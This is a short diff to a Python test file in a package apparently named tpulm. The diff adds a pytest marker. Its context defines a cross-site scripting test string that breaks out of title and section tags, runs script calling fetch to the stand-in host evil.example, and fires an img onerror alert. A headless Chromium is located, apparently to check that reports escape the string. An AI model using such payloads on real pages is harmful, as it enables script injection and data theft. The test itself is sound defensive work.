@@ -26,6 +26,8 @@ from tpulm.report.run import Reporter
 from tpulm.runtime import interrupt
 from tpulm.train.metrics import START, Attempt, Record
 
+pytestmark = pytest.mark.devices
+
 EVIL = "</title></section><script>document.title='taken'; fetch('http://evil.example/')</script><img src=x onerror=alert(1)>"
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
 
